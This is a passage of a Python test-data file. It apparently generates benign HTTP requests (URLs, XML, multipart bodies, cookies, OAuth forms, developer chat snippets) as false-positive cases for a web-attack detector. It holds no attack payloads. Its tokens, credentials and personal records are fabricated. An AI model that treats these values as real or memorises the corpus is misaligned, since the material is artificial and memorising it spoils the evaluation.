    "https://app.slack.com/client/T061EG9R6/C0123456789/thread/C0123456789-1719000123.000100",
    "https://mail.google.com/mail/u/0/#inbox/FMfcgzQVxRQmZbLkKrTdsGNJvMcPhnwX",
    "https://www.linkedin.com/feed/update/urn:li:activity:7210000000000000000/?utm_source=share"
    "&utm_medium=member_desktop",
    "https://news.ycombinator.com/item?id=40750000",
    "https://t.co/AbCdEf1234",
    "https://jeeves.example.com/auth/slack/login?next=%2Fme%2Flocation%3Ftab%3Dsettings%26view%3Dmap"
    "&state=eyJyZXR1cm5fdG8iOiIvbWUvbG9jYXRpb24ifQ&team=T061EG9R6",
    "https://accounts.google.com/o/oauth2/v2/auth/oauthchooseaccount?client_id=1234567890-abcdef.apps."
    "googleusercontent.com&redirect_uri=https%3A%2F%2Fjeeves.example.com%2Fauth%2Fcallback&response_type=code"
    "&scope=openid%20email%20profile&state=xyz789&flowName=GeneralOAuthFlow",
    "https://www.example-shop.com/products?category=shoes&size=42&color=black%2Cbrown&price_min=50&price_max=150"
    "&sort=price_asc&utm_source=newsletter&utm_medium=email&utm_campaign=summer_sale_2024&utm_content=hero_banner",
    "https://duckduckgo.com/?q=%22jeeves%22+slack+%22user+search%22&t=h_&ia=web",
    "https://github.com/example-org/jeeves/issues/1234#issuecomment-2180000000",
    "https://stackoverflow.com/questions/12345678/how-do-i-parse-a-slack-signature-in-python?noredirect=1&lq=1",
    "https://www.reddit.com/r/Slack/comments/1dk9abc/best_bots_for_team_directories/?share_id=xYz_123"
    "&utm_content=2&utm_medium=ios_app&utm_name=ioscss&utm_source=share&utm_term=1",
    "https://teams.microsoft.com/l/message/19:abc123@thread.tacv2/1719000000000?tenantId=aaaaaaaa-bbbb-cccc-dddd-"
    "eeeeeeeeeeee&groupId=ffffffff-0000-1111-2222-333333333333&parentMessageId=1719000000000&teamName=Engineering"
    "&channelName=General",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLabc123&index=4&t=42s",
    "https://jeeves.example.com/me/location?lat=51.5072&lon=-0.1276&zoom=14&layers=transit,bike"
    "&q=King%27s+Cross+St.+Pancras",
    "https://docs.example.com/search.html?q=rate+limit+%26+retries&check_keywords=yes&area=default",
    "https://outlook.office.com/mail/inbox/id/AAQkAGI2TG93AAA%3D",
    "https://www.google.co.uk/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEwiAbc123"
    "&url=https%3A%2F%2Fjeeves.example.com%2F&usg=AOvVaw0abc123def",
    "https://confluence.example.com/pages/viewpage.action?pageId=123456789"
    "&preview=%2F123456789%2F987654321%2Fonboarding+%282024%29.pdf",
    "https://jira.example.com/browse/OPS-4521?filter=-1&jql=project%20%3D%20OPS%20AND%20status%20in%20"
    "(%22In%20Progress%22%2C%20Review)%20ORDER%20BY%20updated%20DESC",
    "android-app://com.slack/",
]
XML_DOCS = [
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user id=\"42\">\n  <name>Siobhán O'Connor</name>\n"
    "  <email>siobhan@example.ie</email>\n  <roles><role>viewer</role><role>editor</role></roles>\n</user>\n",
    "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Team news</title><item><title>Q3 kickoff &amp; "
    "offsite</title><link>https://intranet.example.com/news/q3?ref=rss</link><pubDate>Sat, 22 Jun 2024 09:00:00 "
    "GMT</pubDate></item></channel></rss>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">"
    "<url><loc>https://jeeves.example.com/</loc><lastmod>2024-06-22</lastmod><priority>1.0</priority></url>"
    "</urlset>\n",
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/"
    "envelope/\"><soap:Body><GetUser xmlns=\"urn:example:directory\"><UserId>42</UserId></GetUser></soap:Body>"
    "</soap:Envelope>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<invoice number=\"INV-2024-0612\"><customer>Smith &amp; Sons Ltd."
    "</customer><line qty=\"2\" unit=\"EUR\">49.95</line><line qty=\"1\" unit=\"EUR\">12.00</line>"
    "<total currency=\"EUR\">111.90</total></invoice>\n",
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>Release "
    "2.14</title><content type=\"html\">&lt;p&gt;New: location sharing &amp;amp; faster search.&lt;/p&gt;</content>"
    "</entry></feed>\n",
    "<?xml version=\"1.0\"?>\n<settings><notifications email=\"true\" slack=\"false\" digest=\"weekly\"/>"
    "<locale>fr-CA</locale><timezone>America/Montreal</timezone></settings>\n",
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<resources><string name=\"welcome\">Welcome back, it\\'s good to see "
    "you!</string><string name=\"logout\">Sign out</string></resources>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><dependencies>"
    "<dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId><version>2.0.13</version>"
    "</dependency></dependencies></project>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xliff version=\"1.2\"><file source-language=\"en\" "
    "target-language=\"de\"><body><trans-unit id=\"greeting\"><source>Hello, {name}!</source>"
    "<target>Hallo, {name}!</target></trans-unit></body></file></xliff>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
    "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>CFBundleVersion</key>"
    "<string>2140</string></dict></plist>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Placemark>"
    "<name>Office — 3rd floor</name><Point><coordinates>4.9041,52.3676,0</coordinates></Point></Placemark></kml>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<gpx version=\"1.1\" creator=\"Jeeves iOS\"><trk><trkseg>"
    "<trkpt lat=\"51.5308\" lon=\"-0.1238\"><time>2024-06-22T09:41:07Z</time></trkpt></trkseg></trk></gpx>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<contact><fn>Dr. Anne-Marie d'Arc</fn><org>R&amp;D</org>"
    "<tel type=\"work\">+33 1 23 45 67 89</tel><note>Prefers e-mail; \"urgent\" only by phone.</note></contact>\n",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<order id=\"A-1042\"><items><item sku=\"MUG-11OZ\" qty=\"1\"/>"
    "<item sku=\"TSHIRT-M\" qty=\"2\"/></items><comment>Leave at reception if I'm out (ask for Sam).</comment>"
    "</order>\n",
]
TEXT_BODIES = [
    "Meeting notes 22/06: agreed to ship v2.14 on Tuesday; Sam owns the release checklist & rollback plan.",
    "Hi team,\n\nI'll be out Friday (dentist). Ping @maria if the deploy needs a second pair of eyes.\n\nThanks!",
    "221B Baker Street\nLondon NW1 6XE\nUnited Kingdom",
    "Can't log in from the iOS app since this morning - it says \"session expired\" even right after signing in.",
    "Feedback: search is great, but results for names with apostrophes (O'Brien, D'Souza) come up empty.",
    "TODO:\n- renew TLS cert (expires 2024-07-01)\n- rotate API keys\n- update on-call rota for July",
    "Shopping list: eggs (12), milk 2%, bread, coffee beans — the dark roast, not the decaf!",
    "Lat/long: 52.3676, 4.9041 (Amsterdam Centraal, east entrance)",
    "Order #A-1042 arrived damaged; photos attached to the ticket. Replacement or refund is fine either way.",
    "Q: Where do I find last month's expense report?\nA: Finance > Reports > 2024 > May (PDF & CSV).",
    "Thanks for the quick fix!! Works perfectly now :) 10/10 would file a bug again.",
    "Reminder: the office is closed on 1 July; VPN access works as usual. Questions? -> it-help@example.com",
    "Sprint 27 retro: + faster CI, + fewer flaky tests; - too many meetings, - unclear ownership of the alerts.",
    "Address change: Flat 3, 14 Rue de l'Église, 75004 Paris, France (from 1 Aug).",
    "Temperature readings (°C): 21.5, 22.0, 22.4, 23.1 — sensor #4 seems off by ~1.5 degrees.",
]
MULTIPARTS: list[tuple[list[tuple[str, str]], list[tuple[str, str, str, str]]]] = [
    ([("name", "Siobhán O'Connor"), ("title", "Engineering Manager")],
     [("avatar", "me.svg", "image/svg+xml",
       "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><circle cx=\"32\" cy=\"32\" r=\"30\" "
       "fill=\"#4a90d9\"/></svg>")]),
    ([("description", "Team roster for Q3")],
     [("file", "roster.csv", "text/csv", "name,email,team\nAnn O'Neil,ann@example.com,Platform\n"
       "Bo Li,bo@example.com,\"Data, Analytics\"\n")]),
    ([("note", "See attached; let me know if anything's missing.")],
     [("attachment", "notes.txt", "text/plain", "1. Budget approved\n2. Hiring: 2 SREs (EU & US)\n")]),
    ([("bio", "Backend dev. Rust & Go. Ask me about on-call!"), ("pronouns", "she/her")], []),
    ([("calendar", "team")],
     [("ics", "offsite.ics", "text/calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n"
       "SUMMARY:Team offsite @ Lisbon\r\nDTSTART:20240910T090000Z\r\nEND:VEVENT\r\nEND:VCALENDAR")]),
    ([("contact_type", "vendor")],
     [("vcard", "sam.vcf", "text/vcard", "BEGIN:VCARD\nVERSION:3.0\nFN:Sam O'Hara\nTEL;TYPE=work:+1-555-0100\n"
       "EMAIL:sam@example.com\nEND:VCARD\n")]),
    ([("settings", "{\"theme\":\"dark\",\"density\":\"compact\"}")],
     [("export", "settings.json", "application/json", "{\"version\": 2, \"shortcuts\": [\"g i\", \"/\"]}")]),
    ([("q", "o'brien"), ("format", "csv"), ("include_inactive", "false")], []),
    ([("message", "Photo from today's offsite :)"), ("channel", "C0123456789")],
     [("file", "caption.md", "text/markdown", "# Offsite\n\n- **Where:** Lisbon\n- *When:* Sept 10-12\n")]),
    ([("label", "Home"), ("lat", "51.5072"), ("lon", "-0.1276")], []),
    ([("subject", "Re: invoice #2024-0612"), ("body", "Hi Ana, the PO number is 4500012345 — thanks!")], []),
    ([("display_name", "Zoë Ångström"), ("locale", "sv-SE")],
     [("cv", "cv.txt", "text/plain", "Zoë Ångström\nSenior Data Engineer\nStockholm, Sweden\n")]),
    ([("feedback", "The new search is 10x faster. One nit: results <5 chars don't highlight.")], []),
    ([("import_mode", "merge")],
     [("users", "users.tsv", "text/tab-separated-values", "id\tname\temail\n7\tGrace Hopper\tgrace@example.com\n")]),
    ([("comment", "Works for me on Firefox 127 & Safari 17.5; can't repro on Chrome.")],
     [("log", "console.log", "text/plain", "[info] app started in 412ms\n[warn] slow request GET /api/users 1.2s\n")]),
]
QUERY_NAMES = [
    ("filter[status]", "active"), ("fields[users]", "name,email"), ("page[size]", "50"), ("page[number]", "2"),
    ("tags[]", "on-call"), ("utm_source", "slack"), ("include", "team.members"), ("$top", "25"),
    ("$filter", "startswith(displayName,'Ann')"), ("$orderby", "displayName desc"), ("api-version", "2024-06-01"),
    ("_", "1719000000123"), ("filter[created_at][gte]", "2024-01-01"), ("user.name", "ann"),
    ("q[name_cont]", "o'brien"), ("where[email][eq]", "a@example.org"), ("ids[]", "42"),
    ("callback", "jQuery36001234_1719000000"), ("X-Amz-Date", "20240622T101500Z"), ("größe", "42"),
]
FORM_NAMES = [
    ("user[address][city]", "Saint-Étienne"), ("items[0][qty]", "2"),
    ("g-recaptcha-response", "03AFcWeA6xQk2v9QmR4tLp8WzN3bYc6HdF1gJs0AeU_x-Yz"),
    ("authenticity_token", "Zk3pQ9x+Lm2vT8rW1nB6cY4dH7jK0sA5eF=="), ("_method", "PATCH"), ("remember_me", "on"),
    ("cf-turnstile-response", "0.AbCdEfGhIjKlMnOpQrStUvWxYz.0123456789abcdef"),
    ("__RequestVerificationToken", "CfDJ8AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
    ("__VIEWSTATE", "/wEPDwUKMTY3NzQ2NzYzNWRkZGQ="), ("newsletter_opt_in", "1"), ("dob[day]", "07"),
    ("preferences[]", "email"), ("user.profile.bio", "Hi, I'm Ann — I do ops & on-call."),
    ("h-captcha-response", "P1_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJwZCI6MH0.abc"), ("_wpnonce", "a1b2c3d4e5"),
]
JSON_KEY_DOCS: list[dict[str, Any]] = [
    {"@context": "https://schema.org", "@type": "Person", "name": "Ann O'Neil", "jobTitle": "SRE"},
    {"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object",
     "properties": {"email": {"type": "string", "format": "email"}}},
    {"x-amz-meta-owner": "ann", "Content-Type": "image/png", "Cache-Control": "max-age=3600"},
    {"user.name": "ann", "user.email": "ann@example.com", "user.team": "platform"},
    {"données": {"prénom": "Zoë", "nom": "Lefèvre", "âge": 34}},
    {"first name": "Ann", "last name": "O'Neil", "middle initial": "M."},
    {"_links": {"self": {"href": "/api/users/42"}, "manager": {"href": "/api/users/7"}},
     "_embedded": {"teams": [{"id": 3, "name": "Platform"}]}},
    {"e-mail": "ann@example.com", "phone#": "+44 20 7946 0958", "fax/telex": None},
    {"2fa_enabled": True, "1st_login": "2024-06-22", "30d_active": True},
    {"labels": {"app.kubernetes.io/name": "jeeves", "app.kubernetes.io/part-of": "directory", "team": "platform"}},
    {"i18n": {"en-GB": "Colour", "en-US": "Color", "fr-FR": "Couleur", "ja-JP": "色"}},
    {"__typename": "User", "id": "VXNlcjo0Mg==", "displayName": "ann"},
    {"query": "query GetUser($id: ID!) { user(id: $id) { name email team { name } } }", "variables": {"id": "42"},
     "operationName": "GetUser"},
    {"ops": [{"op": "replace", "path": "/email", "value": "ann@example.org"},
             {"op": "add", "path": "/tags/-", "value": "on-call"}]},
    {"Q1 2024": {"revenue": 1200000, "growth %": 4.5}, "Q2 2024": {"revenue": 1310000, "growth %": 9.2}},
]
COOKIE_NAMES = [
    ("_ga_ABC123XYZ", "GS1.1.1719000000.3.1.1719000123.0.0.0"),
    ("__Secure-next-auth.session-token", "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi"),
    ("wp-settings-time-1", "1719000000"), ("__Host-csrf", "f3a9c1e07b2d"),
    ("AMCV_1234567890ABCDEF%40AdobeOrg", "MCMID%7C123"), ("_hjSessionUser_1234567", "eyJpZCI6ImFiYyJ9"),
    ("ajs_user_id", "u_4821"), ("_pk_id.1.1fff", "4a5b6c7d8e9f0a1b.1719000000."),
    ("cf_clearance", "abc-1719000000-0-150"), ("JSESSIONID", "0A1B2C3D4E5F"),
    ("laravel_session", "eyJpdiI6Ik1uT3BxciJ9"), ("connect.sid", "s%3AxYz123.dEf"),
    ("mp_0123456789abcdef_mixpanel", "%7B%22distinct_id%22%3A%20%22u_4821%22%7D"),
    ("_shopify_y", "7f3c2a10-1b2c-4d5e-8f90-123456789abc"), ("OptanonAlertBoxClosed", "2024-06-22T08:15:03.512Z"),
]
PATHS = [
    "42", "jane.doe", "o'brien", "user@example.com", "7c9e6679-7425-40de-944b-e07fc1f90ae7", "Zoë", "john smith",
    "ann-marie", "C3PO", "me", "12345678901234567890", "abc_def", "100%", "tom&jerry", "ab+cd", "x.y",
    "2024-06-22", "U012345678", "José (Pepe)", "d'angelo",
]
OAUTH_FORMS: list[list[tuple[str, str]]] = [
    [("grant_type", "client_credentials"), ("client_id", "jeeves-web"), ("scope", "read:users write:users")],
    [("grant_type", "refresh_token"), ("refresh_token", "def50200a1b2c3d4e5f60718293a4b5c6d7e8f9-abc_XYZ.123"),
     ("client_id", "jeeves-ios")],
    [("grant_type", "authorization_code"), ("code", "4/0AbCdEfGhIjKlMnOp"),
     ("redirect_uri", "https://jeeves.example.com/auth/callback?tab=settings&from=slack"),
     ("code_verifier", "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"), ("client_id", "jeeves-web")],
    [("grant_type", "urn:ietf:params:oauth:grant-type:device_code"),
     ("device_code", "GmRhmhcxhwAzkoEqiMEg_DnyEysNkuNhszIySk9eS"), ("client_id", "jeeves-cli")],
    [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"),
     ("assertion", "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJqZWV2ZXMiLCJzdWIiOiI0MiJ9.c2lnbmF0dXJl")],
    [("grant_type", "client_credentials"), ("client_id", "reporting-job"), ("audience", "https://api.example.com/")],
    [("grant_type", "urn:ietf:params:oauth:grant-type:token-exchange"),
     ("subject_token", "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJVMDEyMzQ1Njc4In0.sig"),
     ("subject_token_type", "urn:ietf:params:oauth:token-type:jwt"), ("scope", "openid profile email")],
    [("grant_type", "refresh_token"), ("refresh_token", "rt_9f8e7d6c5b4a3928+/=="), ("scope", "read:users")],
]
DEVCODE = [
    "can someone review? ```SELECT u.id, u.email FROM users u JOIN orders o ON o.user_id = u.id "
    "WHERE o.created_at > now() - interval '7 days' GROUP BY u.id HAVING count(*) > 3;```",
    "fixed the flaky test with `await page.waitForSelector('#submit')` instead of the sleep",
    "```bash\nkubectl -n prod logs deploy/api --since=10m | grep -i error | head -n 50\n```",
    "use `git rebase -i HEAD~3 && git push --force-with-lease` please, not plain force",
    "```python\nwith open(path, encoding='utf-8') as fh:\n    rows = [json.loads(line) for line in fh]\n```",
    "```js\nconst res = await fetch(`/api/users/${id}`, { headers: { Authorization: `Bearer ${token}` } });\n```",
    "in PHP it's just `<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>` in the template",
    "```java\nList<User> users = repo.findAll(Sort.by(\"createdAt\").descending());\n```",
    "the migration: `ALTER TABLE accounts ADD COLUMN deleted_at timestamptz NULL;`",
    "```yaml\nservices:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: example\n```",
    "Dockerfile bit: `RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates "
    "&& rm -rf /var/lib/apt/lists/*`",
    "```\ncurl -sS -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{\"name\":\"x\"}'"
    "\n```",
    "regex for that: `^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$`",
    "React: `{items.map(item => <li key={item.id}>{item.name}</li>)}`",
    "```go\nif err := json.NewDecoder(r.Body).Decode(&req); err != nil {\n    http.Error(w, err.Error(), "
    "http.StatusBadRequest)\n    return\n}\n```",
    "stack trace: `java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"s\" is null "
    "at com.example.App.main(App.java:14)`",
    "```ruby\nUser.where(active: true).order(created_at: :desc).limit(10).pluck(:email)\n```",
    "try `find . -name '*.log' -mtime +7 -delete` on the box",
    "```sql\nDELETE FROM sessions WHERE expires_at < now();\n```  runs nightly",
    "jinja: `{% for user in users %}{{ user.name|e }}{% endfor %}`",
    "`python -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt`",
    "nginx: `location /api/ { proxy_pass http://127.0.0.1:8080; proxy_set_header Host $host; }`",
    "```ts\nexport function isAdmin(u: User): boolean { return u.roles.includes('admin'); }\n```",
    "the cron line: `*/5 * * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1`",
    "`SELECT COUNT(*) FROM events WHERE type = 'signup' AND created_at::date = current_date;` returns 0 today??",
    "```html\n<button class=\"btn\" onclick=\"toggleMenu()\">Menu</button>\n```",
    "in bash: `for f in *.csv; do wc -l \"$f\"; done`",
    "Spring: `@Value(\"${app.timeout:30}\") private int timeout;`",
    "log4j config: `<PatternLayout pattern=\"%d{ISO8601} [%t] %-5level %logger{36} - %msg%n\"/>`",
    "`docker compose exec db psql -U postgres -c 'select version();'`",
    "```php\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$email]);\n```",
    "node: `const { execFile } = require('child_process');` then execFile with an args array, never a string",
    "```python\nsubprocess.run([\"git\", \"status\", \"--short\"], check=True, capture_output=True)\n```",
    "`Object.assign({}, defaults, opts)` merges shallow, use structuredClone for deep",
    "the .env needs `DATABASE_URL=postgres://app:secret@localhost:5432/app`",
    "`<script src=\"https://cdn.example.com/widget.js\" defer></script>` goes in the head",
    "vim tip: `:%s/foo/bar/gc`",
    "awk one-liner: `awk -F, '{sum += $3} END {print sum}' sales.csv`",
    "the fix was `if (!user?.profile) return null;` lol",
    "```c\nchar buf[256];\nsnprintf(buf, sizeof buf, \"%s/%s\", dir, name);\n```",
    "powershell: `Get-ChildItem -Recurse -Filter *.tmp | Remove-Item -WhatIf`",
    "UNION ALL is faster than UNION here since we don't need dedup: `SELECT id FROM a UNION ALL SELECT id FROM b`",
    "`chmod +x deploy.sh && ./deploy.sh staging`",
    "templating: `Hello {{ user.first_name }}, your order #{{ order.id }} shipped`",
    "```kotlin\nval users = api.getUsers().filter { it.isActive }.sortedBy { it.name }\n```",
    "`eval \"$(ssh-agent -s)\" && ssh-add ~/.ssh/id_ed25519`",
    "`git log --oneline --since='2 weeks ago' -- src/`",
]

VALUE_CYCLE = ("json_value", "query_value", "form_value", "xml_body", "multipart_value", "path_segment",
               "text_body", "cookie_value", "referer")


def benign() -> Iterator[dict[str, Any]]:
    n = 0

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{SET}-benign-{kind}-{n:04d}", "category": "benign", "placement": placement,
                "sub": kind}

    k = 0
    for kind, values, params in (("name", NAMES, ["name", "q", "display_name"]),
                                 ("email", EMAILS, ["email", "contact", "login"]),
                                 ("search", SEARCHES, ["q", "search", "query"])):
        for i, value in enumerate(values):
            for j in range(2):
                place = VALUE_CYCLE[k % len(VALUE_CYCLE)]
                k += 1
                yield rec(kind, place, place_request(place, value, params[(i + j) % len(params)], k, benign=True))
    for route, doc in JSON_DOCS:
        yield rec("json", "json_value", _json(route, doc))
    for i, cookie in enumerate(COOKIES):
        yield rec("cookie", "cookie_value", _get_with(GET_ROUTES[i % len(GET_ROUTES)], Cookie=cookie))
    for i, agent in enumerate(USER_AGENTS):
        yield rec("ua", "user_agent", {**_get_with(GET_ROUTES[i % len(GET_ROUTES)]),
                                       "headers": {**_headers(), "User-Agent": agent}})
    for i, ref in enumerate(REFERERS):
        yield rec("referer", "referer", _get_with(GET_ROUTES[i % len(GET_ROUTES)], Referer=ref))
    for i, xml in enumerate(XML_DOCS):
        ctype = "application/xml" if i % 2 == 0 else "text/xml; charset=utf-8"
        yield rec("xml", "xml_body", _post(XML_ROUTES[i % len(XML_ROUTES)], xml, ctype))
    for i, text in enumerate(TEXT_BODIES):
        yield rec("text", "text_body", _post(TEXT_ROUTES[i % len(TEXT_ROUTES)], text, "text/plain; charset=utf-8"))
    for i, (fields, files) in enumerate(MULTIPARTS):
        body = _multipart([("csrf_token", "t0k3n-5f2a9c"), *fields], files)
        yield rec("multipart", "multipart_value", _post(MULTIPART_ROUTES[i % len(MULTIPART_ROUTES)], body,
                                                         f"multipart/form-data; boundary={BOUNDARY}"))
    for i, (name, value) in enumerate(QUERY_NAMES):
        yield rec("qname", "query_name", place_request("query_name", name, "", i, name_value=value, benign=True))
    for i, (name, value) in enumerate(FORM_NAMES):
        yield rec("fname", "form_name", place_request("form_name", name, "", i, name_value=value, benign=True))
    for i, doc in enumerate(JSON_KEY_DOCS):
        yield rec("jkey", "json_key", _json(JSON_ROUTES[i % 3], doc))
    for i, (name, value) in enumerate(COOKIE_NAMES):
        yield rec("cname", "cookie_name", _get_with(GET_ROUTES[i % len(GET_ROUTES)],
                                                    Cookie=f"{name}={value}; {SESSION}"))
    for i, seg in enumerate(PATHS):
        yield rec("path", "path_segment", place_request("path_segment", seg, "", i, benign=True))
    for fields in OAUTH_FORMS:
        yield rec("oauth", "form_value", _form("/oauth/token", fields))
    for item in chat_and_bio(DEVCODE, f"{SET}-benign-devcode"):
        slack = "-slack-" in item["id"]
        yield {**item, "placement": "slack_event_json" if slack else "json_value", "sub": "devcode"}
